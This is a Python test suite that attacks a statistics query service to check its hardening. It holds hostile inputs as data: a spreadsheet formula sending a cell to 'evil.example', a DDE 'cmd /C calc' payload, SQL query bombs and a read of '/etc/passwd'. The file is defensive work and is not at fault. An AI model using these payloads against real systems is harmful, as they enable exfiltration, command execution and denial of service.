"""The query service attacked as a hostile or careless client would: bombs, formulas, disclosure, sizes, keys, bodies.

One test per class of attack, each with several variants (issue #20).
"""

from __future__ import annotations

import hashlib
import io
import json
import logging
import shutil
import socket
import subprocess
import zipfile
from concurrent.futures import ThreadPoolExecutor

import httpx
import pandas as pd
import pytest

try:
    from service_support import bearer, running_service
except ImportError:
    from tests.service_support import bearer, running_service

TIME_LIMIT = 4
ANSWER_CAP = 1024 * 1024
UPLOAD_CAP = 64 * 1024


def union_bomb(branches: int) -> str:
    """The issue's bomb: `select 1` and `branches` times ` union all select 1`."""
    return "select 1" + " union all select 1" * branches


def doubling_bomb(levels: int) -> str:
    """A 2 kB statement whose plan doubles with every CTE level (2^levels branches once inlined)."""
    ctes = ", ".join(f"a{i} AS NOT MATERIALIZED (SELECT * FROM a{i - 1} UNION ALL SELECT * FROM a{i - 1})"
                     for i in range(1, levels + 1))
    return f"WITH a0 AS NOT MATERIALIZED (SELECT 1 AS x), {ctes} SELECT count(*) FROM a{levels}"


@pytest.fixture(scope="module")
def service(built, tmp_path_factory):
    summary = built[0]
    with running_service(tmp_path_factory.mktemp("hardening"), summary.warehouse_path, summary.run_id,
                         counties=("09162", "09187"), IMON_SQL_TIME_LIMIT=str(TIME_LIMIT),
                         IMON_ANSWER_MAX_BYTES=str(ANSWER_CAP), IMON_UPLOAD_MAX_BYTES=str(UPLOAD_CAP),
                         IMON_SQL_WORKERS="4") as running:
        with running.client("09162") as county, running.client("09187") as rosenheim, running.client("state") as state:
            running.county, running.rosenheim, running.state = county, rosenheim, state
            yield running


def upload(client, table: str, text: str):
    return client.post(f"/api/uploads/{table}", files={"file": (f"{table}.csv", text.encode(), "text/csv")})


def log_entries(service) -> list[dict]:
    return [json.loads(line) for line in (service.settings.service_dir / "requests.log").read_text().splitlines()]


# --- High 1: parse- and plan-time bombs ---------------------------------------------------------------------


def test_query_bombs_are_stopped_by_size_time_or_memory_while_other_clients_are_served(service):
    # the issue's 30,000-branch bomb (570 kB): refused by its size, never parsed
    big = service.county.post("/api/sql", json={"sql": union_bomb(30_000)})
    assert big.status_code == 413 and big.json()["refusal"] == "statement_size", big.text
    # a 2 MB one: refused by the body gate before its body is read
    huge = service.county.post("/api/sql", json={"sql": union_bomb(110_000)})
    assert huge.status_code == 413 and "limit" in huge.json()["detail"]

    # two plan-time bombs at once: each is stopped at the time limit (or by the worker's memory cap) ...
    with ThreadPoolExecutor(2) as pool:
        bombs = [pool.submit(service.state.post, "/api/sql", json={"sql": doubling_bomb(40)}),
                 pool.submit(service.county.post, "/api/sql", json={"sql": doubling_bomb(36)})]
        # ... and meanwhile other clients are answered (a bomb cannot end before its time limit)
        catalog = service.rosenheim.get("/api/catalog")
        values = service.rosenheim.get("/api/values", params={"region": "09162", "indicator": "ARB06"})
        served_while_bombs_ran = not any(bomb.done() for bomb in bombs)
        answers = [bomb.result(timeout=120) for bomb in bombs]
    assert catalog.status_code == 200 and values.status_code == 200 and served_while_bombs_ran
    for answer in answers:
        assert answer.status_code in (400, 408), answer.text
        assert answer.json()["refusal"] in ("time_limit", "memory_limit")
        assert f"time limit of {TIME_LIMIT} s" in answer.json()["detail"] or "memory limit" in answer.json()["detail"]
    # the service lives on, with fresh workers
    assert service.county.post("/api/sql", json={"sql": "SELECT 41 + 1 AS answer"}).json()["rows"] == [[42]]
    assert service.state.post("/api/sql", json={"sql": union_bomb(200)}).json()["row_count"] == 201


# --- High 2: formula injection ---------------------------------------------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\uff1d1+1"]


def test_formulas_are_refused_in_uploads_and_written_as_text_in_every_export(service):
    for formula in FORMULAS:
        note = formula.replace('"', '""')
        response = upload(service.county, "notes", f'ags,period,variable,value,note\n09162,2024,x,5,"{note}"\n')
        assert response.status_code == 422, (formula, response.text)
        assert "formula" in response.text
    assert upload(service.county, "notes", "ags,period,variable,value,note\n09162,2024,x,5,a - b = c\n").status_code == 201

    columns = ", ".join(f"'{f.replace(chr(39), chr(39) * 2)}' AS c{n}" for n, f in enumerate(FORMULAS))
    statement = {"sql": f"SELECT {columns}, chr(9) || '=1+1' AS tab, 'plain' AS \"=header\", -5 AS number"}
    csv = service.state.post("/api/sql", json=statement, params={"format": "csv"})
    frame = pd.read_csv(io.StringIO(csv.text), keep_default_na=False, dtype=str)
    assert frame.iloc[0].tolist()[:len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert frame["tab"].tolist() == ["'\t=1+1"] and list(frame.columns)[-2:] == ["'=header", "number"]
    assert frame["number"].tolist() == ["-5"]  # numbers stay numbers
    xlsx = service.state.post("/api/sql", json=statement, params={"format": "xlsx"})
    sheet = zipfile.ZipFile(io.BytesIO(xlsx.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
    cells = pd.read_excel(io.BytesIO(xlsx.content), dtype=str)
    assert cells.iloc[0].tolist()[:len(FORMULAS)] == ["'" + f for f in FORMULAS]
    # an upload's export uses the same encoder
    exported = service.state.get("/api/uploads/09162/notes", params={"format": "xlsx"})
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(exported.content)).read("xl/worksheets/sheet1.xml").decode()


PROFILE_TEXTS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\t=1+1",
                 "\r=1+1"]


def test_a_profile_download_writes_formula_like_text_as_text(built_copy, tmp_path):
    """The profile's text cells (catalogue names and units, the peer group's name) in CSV and XLSX, planted in a snapshot."""
    import csv as csv_module

    import duckdb

    connection = duckdb.connect(str(built_copy))
    try:
        indicators = [row[0] for row in connection.execute(
            "SELECT DISTINCT indicator_id FROM marts.indicator_value WHERE ags = '09162000' AND level = 'kreis' "
            "AND value IS NOT NULL ORDER BY indicator_id LIMIT ?", [len(PROFILE_TEXTS)]).fetchall()]
        assert len(indicators) == len(PROFILE_TEXTS)
        for indicator, text in zip(indicators, PROFILE_TEXTS):
            connection.execute("UPDATE marts.indicator_catalog SET name_en = ? WHERE indicator_id = ?", [text, indicator])
        connection.execute("UPDATE marts.indicator_catalog SET unit = '=cmd|'' /C calc''!A0' WHERE indicator_id = ?",
                           [indicators[0]])
        connection.execute("UPDATE marts.indicator_comparison SET group_name = '@cmd|'' /C calc''!A0' WHERE is_default")
    finally:
        connection.close()
    expected = {i: "'" + text for i, text in zip(indicators, PROFILE_TEXTS)}

    with running_service(tmp_path / "formulas", built_copy, "formulas", counties=(), IMON_SQL_WORKERS="1") as running:
        with running.client("state") as state:
            csv = state.get("/api/regions/09162/profile", params={"format": "csv"})
            xlsx = state.get("/api/regions/09162/profile", params={"format": "xlsx"})
    assert csv.status_code == 200 and xlsx.status_code == 200

    rows = list(csv_module.DictReader(io.StringIO(csv.content.decode("utf-8"), newline="")))
    names = {row["indicator_id"]: row["name_en"] for row in rows if row["indicator_id"] in expected}
    assert names == expected
    assert {row["unit"] for row in rows if row["indicator_id"] == indicators[0]} == {"'=cmd|' /C calc'!A0"}
    groups = {row["peer_group"] for row in rows if row["peer_group"]}
    assert groups == {"'@cmd|' /C calc'!A0"}

    sheet = zipfile.ZipFile(io.BytesIO(xlsx.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
    cells = pd.read_excel(io.BytesIO(xlsx.content), dtype=str, keep_default_na=False)
    names = dict(zip(cells["indicator_id"], cells["name_en"]))
    # Excel's XML keeps the tab; a carriage return comes back as the line feed XML normalises it to
    assert {i: names[i].replace("\n", "\r") for i in expected} == expected
    assert set(cells.loc[cells["indicator_id"] == indicators[0], "unit"]) == {"'=cmd|' /C calc'!A0"}
    assert set(cells["peer_group"]) - {""} == {"'@cmd|' /C calc'!A0"}


# --- High 3: disclosure -----------------------------------------------------------------------------------------

HELPERS = ("ags,period,variable,value\n"
           "09187,2024,helpers,12\n"       # Kreis total: 2 + 10
           "09187117,2024,helpers,2\n"     # suppressed
           "09187118,2024,helpers,10\n"
           "09187,2023,helpers,7\n"        # nothing suppressed in 2023: all shown
           "09187117,2023,helpers,7\n")


def test_nothing_exact_about_a_suppressed_cell_reaches_the_state_office(service):
    accepted = upload(service.rosenheim, "helpers", HELPERS)
    assert accepted.status_code == 201 and accepted.json()["suppressed_for_others"] == 2
    digest = hashlib.sha256(HELPERS.encode()).hexdigest()
    # the owner keeps its file's digest; the state office sees none, in the listing or in SQL
    own = [u for u in service.rosenheim.get("/api/uploads").json()["uploads"] if u["table"] == "helpers"]
    assert own[0]["sha256"] == digest
    listing = service.state.get("/api/uploads")
    assert digest not in listing.text and all("sha256" not in u for u in listing.json()["uploads"])
    registry = service.state.post("/api/sql", json={"sql": "SELECT * FROM county_09187._uploads"})
    assert registry.status_code == 200 and digest not in registry.text
    # the Kreis total of 2024 would give the suppressed Gemeinde away (12 - 10): it is hidden too
    rows = service.state.post("/api/sql", json={"sql": "SELECT ags, period, value, value_flag FROM county_09187.helpers "
                                                       "ORDER BY line_number"}).json()["rows"]
    assert rows == [["09187000", 2024, None, "suppressed_complementary"],
                    ["09187117", 2024, None, "suppressed_below_threshold"],
                    ["09187118", 2024, 10, None],
                    ["09187000", 2023, 7, None], ["09187117", 2023, 7, None]]
    # so no total or difference the state office can compute reaches 2
    totals = service.state.post("/api/sql", json={"sql": (
        "SELECT sum(value) FILTER (level = 'kreis') - sum(value) FILTER (level = 'gemeinde') AS difference, "
        "sum(value) AS total FROM county_09187.helpers WHERE period = 2024")}).json()["rows"]
    assert totals == [[None, 10]]
    shared = pd.read_csv(io.StringIO(service.state.get("/api/uploads/09187/helpers", params={"format": "csv"}).text))
    assert shared["value"].isna().tolist() == [True, True, False, False, False]


def state_rows(service, table: str) -> list[list]:
    return service.state.post("/api/sql", json={"sql": f"SELECT ags, period, value, value_flag FROM county_09187.{table} "
                                                       "WHERE variable = 'staff' ORDER BY line_number"}).json()["rows"]


def test_totals_in_one_upload_and_parts_in_another_do_not_give_a_suppressed_count_away(service):
    # a Kreis total (12) alone in one upload: nothing to hide yet, the state office sees it
    totals = "ags,period,variable,value\n09187,2022,staff,12\n09187,2021,staff,30\n"
    assert upload(service.rosenheim, "staff_totals", totals).json()["suppressed_for_others"] == 0
    assert state_rows(service, "staff_totals") == [["09187000", 2022, 12, None], ["09187000", 2021, 30, None]]
    # its parts in another upload, one of them below the threshold: 12 - 10 would give the 2 away ...
    parts = "ags,period,variable,value\n09187117,2022,staff,2\n09187118,2022,staff,10\n09187117,2021,staff,30\n"
    assert upload(service.rosenheim, "staff_parts", parts).json()["suppressed_for_others"] == 1
    # ... so the earlier upload's total of that year and variable is hidden from now on (2021 stays shown)
    assert state_rows(service, "staff_totals") == [["09187000", 2022, None, "suppressed_complementary"],
                                                   ["09187000", 2021, 30, None]]
    difference = service.state.post("/api/sql", json={"sql": (
        "SELECT (SELECT sum(value) FROM county_09187.staff_totals WHERE period = 2022) - "
        "(SELECT sum(value) FROM county_09187.staff_parts WHERE period = 2022) AS difference")}).json()["rows"]
    assert difference == [[None]]
    # the state office's listing per upload carries counts of rows and hidden cells, no sum of values
    listed = {u["table"]: u for u in service.state.get("/api/uploads").json()["uploads"] if u["county"] == "09187"}
    assert listed["staff_totals"]["suppressed_for_others"] == 1 and listed["staff_parts"]["suppressed_for_others"] == 1
    assert set(listed["staff_totals"]) == {"county", "table", "rows", "suppressed_for_others", "file_name",
                                           "uploaded_at", "upload_id"}
    # the other order: parts first, then a total of the same year and variable arrives hidden
    assert upload(service.rosenheim, "staff_parts_2020", "ags,period,variable,value\n09187117,2020,staff,1\n"
                                                         "09187118,2020,staff,8\n").status_code == 201
    late = upload(service.rosenheim, "staff_totals_2020", "ags,period,variable,value\n09187,2020,staff,9\n")
    assert late.json()["suppressed_for_others"] == 1
    assert state_rows(service, "staff_totals_2020") == [["09187000", 2020, None, "suppressed_complementary"]]
    # no sum over every table the state office can read reaches a hidden count
    sums = service.state.post("/api/sql", json={"sql": (
        "SELECT period, sum(value) FILTER (level = 'kreis') AS kreis, sum(value) FILTER (level = 'gemeinde') AS gemeinden "
        "FROM (SELECT * FROM county_09187.staff_totals UNION ALL SELECT * FROM county_09187.staff_parts UNION ALL "
        "SELECT * FROM county_09187.staff_parts_2020 UNION ALL SELECT * FROM county_09187.staff_totals_2020) "
        "GROUP BY period ORDER BY period")}).json()["rows"]
    assert sums == [[2020, None, 8], [2021, 30, 30], [2022, None, 10]]
    # the county itself still sees its totals as delivered
    own = service.rosenheim.post("/api/sql", json={"sql": "SELECT value FROM county_09187.staff_totals ORDER BY line_number"})
    assert own.json()["rows"] == [[12], [30]]


# --- Medium 4: answer size ----------------------------------------------------------------------------------------


def test_no_answer_is_larger_than_the_byte_cap(service):
    wide = "SELECT repeat('x', 1000) || i AS text FROM range(5000) t(i)"  # 5 MB
    for fmt in ("json", "csv", "parquet", "xlsx"):
        response = service.county.post("/api/sql", json={"sql": wide}, params={"format": fmt})
        assert response.status_code == 413 and response.json()["refusal"] == "answer_size", (fmt, response.text[:200])
        assert len(response.content) < 1000
    # the issue's 1 GB answer: stopped by the byte cap, DuckDB's memory limit or the time limit, whichever comes first
    issue = service.county.post("/api/sql", json={"sql": "SELECT repeat('x', 100000) || i FROM range(10000) t(i)"})
    assert (issue.status_code, issue.json()["refusal"]) in ((400, "memory_limit"), (413, "answer_size"), (408, "time_limit"))
    assert len(issue.content) < 1000
    # within the cap, the answer comes whole, with its declared length
    small = service.county.post("/api/sql", json={"sql": "SELECT repeat('x', 1000) AS text FROM range(100)"})
    assert small.status_code == 200 and int(small.headers["content-length"]) == len(small.content) < ANSWER_CAP
    # the cap holds for every endpoint, not only SQL: all of the sample's values are more than 1 MB as CSV
    everything = service.state.get("/api/values", params={"format": "json"})
    assert everything.status_code == 413 and "limit" in everything.json()["detail"]
    assert service.state.get("/api/values", params={"region": "09162"}).status_code == 200


# --- Medium 5: region keys ----------------------------------------------------------------------------------------


def test_odd_region_keys_are_refused_before_anything_is_built_or_cached(service):
    odd = ["09162%E2%80%83", "09162%0A", "%D9%A0%D9%A9%D9%A1%D9%A6%D9%A2", "%EF%BC%90%EF%BC%99%EF%BC%91%EF%BC%96%EF%BC%92",
           "09162%00", "0916%C2%B2"]
    for key in odd:
        for fmt in ("csv", "xlsx", "json"):
            response = service.county.get(f"/api/regions/{key}/profile", params={"format": fmt})
            assert response.status_code == 404, (key, fmt, response.status_code)
    clean = service.county.get("/api/regions/09162/profile", params={"format": "csv"})
    assert clean.status_code == 200 and clean.headers["content-disposition"] == 'attachment; filename="profile_09162.csv"'
    padded = service.county.get("/api/regions/%2009162/profile", params={"format": "csv"})
    assert padded.status_code == 200 and padded.content == clean.content
    # the log has what was sent: a 404 for every odd key, a 200 only for the clean ones
    profiles = [e for e in log_entries(service) if e["path"].startswith("/api/regions/") and e["path"].endswith("/profile")]
    assert sum(e["status"] == 404 for e in profiles) >= len(odd) * 3
    assert all(e["status"] == 200 for e in profiles if e["path"] in ("/api/regions/09162/profile", "/api/regions/ 09162/profile"))
    assert all(e.get("sent", True) for e in profiles)


# --- Medium 6: keys in the log ------------------------------------------------------------------------------------


def test_keys_are_redacted_by_their_shape_anywhere_in_path_or_query(service):
    console = io.StringIO()
    handler = logging.StreamHandler(console)
    logger = logging.getLogger("imon.service")
    logger.addHandler(handler)
    logger.setLevel(logging.INFO)
    key = service.keys["09162"]
    secret = key.split("_", 2)[2]
    try:
        with httpx.Client(base_url=service.url, timeout=30) as anonymous:
            for name in ("auth", "bearer", "k", "sig", "x"):
                anonymous.get("/api/catalog", params={name: key})
            anonymous.get("/api/catalog", params={"q": secret})  # the secret alone
            anonymous.get(f"/profile/{key}")
            anonymous.get(f"/api/uploads/{key}/x")
            anonymous.get(f"/api/regions/{key.replace('_', '%5F')}/profile")  # percent-encoded
            anonymous.post(f"/api/uploads/{key}", files={"file": ("a.csv", b"x")})
    finally:
        logger.removeHandler(handler)
        logger.setLevel(logging.NOTSET)
    log = (service.settings.service_dir / "requests.log").read_text()
    for text in (log, console.getvalue()):
        assert secret not in text and secret[:20] not in text
        assert f"imon_{key.split('_')[1]}_[redacted]" in text  # the key id stays, to know which key to revoke
    entries = log_entries(service)
    assert any(e["query"] == "q=[redacted]" for e in entries)


# --- Medium 7 and Low: bodies are refused before they are read -------------------------------------------------------


def raw_post(service, path: str, headers: dict[str, str], body: bytes = b"") -> tuple[int, bytes]:
    """POST headers (and maybe some of the body) on a raw socket; the status line the service answers with."""
    port = int(service.url.rsplit(":", 1)[1])
    with socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
        lines = [f"POST {path} HTTP/1.1", "Host: 127.0.0.1", *[f"{k}: {v}" for k, v in headers.items()], "", ""]
        connection.sendall("\r\n".join(lines).encode() + body)
        reply = b""
        while b"\r\n\r\n" not in reply:
            chunk = connection.recv(65536)  # a service waiting for the body would never answer: the timeout fails it
            if not chunk:
                break
            reply += chunk
    return int(reply.split(b" ", 2)[1]), reply


def test_uploads_are_refused_before_their_body_is_read(service):
    gigabyte = {"Content-Type": "multipart/form-data; boundary=b", "Content-Length": str(1024 ** 3)}
    assert raw_post(service, "/api/uploads/big", gigabyte)[0] == 401
    assert raw_post(service, "/api/uploads/big", {**gigabyte, "Authorization": "Bearer imon_0123456789_" + "x" * 43})[0] == 401
    assert raw_post(service, "/api/uploads/big", {**gigabyte, "Authorization": f"Bearer {service.keys['state']}"})[0] == 403
    assert raw_post(service, "/api/uploads/big", {**gigabyte, "Authorization": f"Bearer {service.keys['09162']}"})[0] == 413
    assert raw_post(service, "/api/sql", {**gigabyte, "Content-Type": "application/json",
                                          "Authorization": f"Bearer {service.keys['09162']}"})[0] == 413
    # without a length, the body is counted while it arrives and refused once it passes the limit
    part = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\nContent-Type: text/csv\r\n\r\n'
    chunk = b"09162,2024,x,5\n" * 2048
    chunked = b"".join(b"%x\r\n%s\r\n" % (len(c), c) for c in [part] + [chunk] * 8)
    status, _ = raw_post(service, "/api/uploads/big", {"Content-Type": "multipart/form-data; boundary=b",
                                                       "Transfer-Encoding": "chunked",
                                                       "Authorization": f"Bearer {service.keys['09162']}"}, chunked)
    assert status == 413
    # a real file just over the limit, sent whole, is refused as cheaply
    rows = "".join(f"09162,2024,v{n},5\n" for n in range(UPLOAD_CAP // 16))
    response = upload(service.county, "big", "ags,period,variable,value\n" + rows)
    assert response.status_code == 413 and "limit" in response.json()["detail"]


# --- Low ----------------------------------------------------------------------------------------------------------------


def test_table_and_county_path_parts_must_match_whole(service):
    good = "ags,period,variable,value\n09162,2024,x,5\n"
    for table in ("abc%0A", "abc%0D%0A", "ABC", "a-b", "1abc", "a" * 64, "%D9%A1abc"):
        response = upload(service.county, table, good)
        assert response.status_code == 400 and "table name" in response.json()["detail"], (table, response.text)
    assert not any("\n" in p.name for p in (service.settings.service_dir / "counties").rglob("*"))
    for county in ("9162", "091620", "09162%0A", "%D9%A0%D9%A9%D9%A1%D9%A6%D9%A2", "abcde"):
        assert service.state.get(f"/api/uploads/{county}/x").status_code == 422, county


REVEALING = [
    "SELECT * FROM pragma_database_list",
    "SELECT path FROM duckdb_databases",
    "SELECT * FROM main.duckdb_settings",
    "SELECT current_setting('allowed_paths')",
    "SELECT current_setting('secret_directory') AS s",
    "SELECT getenv('HOME')",
    "SUMMARIZE SELECT * FROM duckdb_databases",
    "DESCRIBE duckdb_settings",
    "PIVOT duckdb_databases ON database_name USING count(*)",
]


def test_functions_that_reveal_the_server_are_refused_with_or_without_parentheses(service):
    for statement in REVEALING:
        response = service.state.post("/api/sql", json={"sql": statement})
        assert response.status_code == 400 and response.json()["refusal"] == "server_information", (statement, response.text)
    tables = service.state.post("/api/sql", json={"sql": "SELECT * FROM duckdb_tables"})
    assert tables.status_code == 200 and str(service.settings.published_dir) not in tables.text


def test_only_ascii_digits_are_counts_and_years(service):
    for value in ("\u0665", "\u0661\u0662", "\uff15", "5\u00b2", "\u09e7"):
        response = upload(service.county, "digits", f"ags,period,variable,value\n09162,2024,x,{value}\n")
        assert response.status_code == 422 and "value" in response.text, value
    response = upload(service.county, "digits", "ags,period,variable,value\n09162,\u0662\u0660\u0662\u0664,x,5\n")
    assert response.status_code == 422 and "period" in response.text


def test_every_answer_carries_the_browser_protections(service):
    for path in ("/profile/09162", "/docs", "/static/profile.js", "/openapi.json", "/api/catalog", "/nowhere"):
        response = service.county.get(path)
        assert response.headers["x-content-type-options"] == "nosniff", path
        assert response.headers["x-frame-options"] == "DENY", path
        policy = response.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in policy and "default-src 'self'" in policy and "unsafe-eval" not in policy
    assert "'sha256-" in service.county.get("/docs").headers["content-security-policy"]
    assert "'sha256-" not in service.county.get("/profile").headers["content-security-policy"]
    assert service.county.get("/api/catalog").headers["cache-control"] == "no-store"


def test_the_api_docs_render_under_the_policy(service, tmp_path):
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if not chromium:
        pytest.fail("chromium is not installed: `apt-get install -y chromium` (Debian package)")
    for attempt in range(3):  # a loaded machine may need more than one virtual-time budget to fetch and render
        page = subprocess.run([chromium, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                               "--disable-background-networking", f"--user-data-dir={tmp_path / str(attempt)}",
                               f"--virtual-time-budget={20000 * (attempt + 1)}", "--dump-dom", f"{service.url}/docs"],
                              capture_output=True, text=True, timeout=180)
        if "opblock" in page.stdout:
            break
    assert "opblock" in page.stdout and "/api/sql" in page.stdout, page.stderr[-2000:]


def test_suppressed_uploads_print_whole_numbers(service):
    assert upload(service.county, "counts", "ags,period,variable,value\n09162,2024,x,250\n09162,2023,x,1\n").status_code == 201
    text = service.state.get("/api/uploads/09162/counts", params={"format": "csv"}).text
    assert ",250," in text and "250.0" not in text
    sql = service.state.post("/api/sql", json={"sql": "SELECT value FROM county_09162.counts ORDER BY period DESC"},
                             params={"format": "csv"}).text
    assert sql.splitlines() == ["value", "250", '""']  # a lone empty field is quoted, so the line is not blank


def test_pivot_is_one_read_only_statement(service, warehouse):
    expected = warehouse.execute("SELECT count(*) FROM marts.indicator_value WHERE level = 'land'").fetchone()[0]
    for statement in ("PIVOT (SELECT level FROM marts.indicator_value WHERE level = 'land') ON level USING count(*)",
                      "PIVOT marts.indicator_value ON level IN ('land') USING count(*) GROUP BY indicator_id",
                      "UNPIVOT (SELECT 1 AS a, 2 AS b) ON a, b INTO NAME n VALUE v"):
        response = service.county.post("/api/sql", json={"sql": statement})
        assert response.status_code == 200, (statement, response.text)
    first = service.county.post("/api/sql", json={"sql": "PIVOT (SELECT level FROM marts.indicator_value "
                                                         "WHERE level = 'land') ON level USING count(*)"}).json()
    assert first["columns"] == ["land"] and first["rows"] == [[expected]]
    refused = service.county.post("/api/sql", json={"sql": "PIVOT read_csv('/etc/passwd') ON a USING count(*)"})
    assert refused.status_code == 400
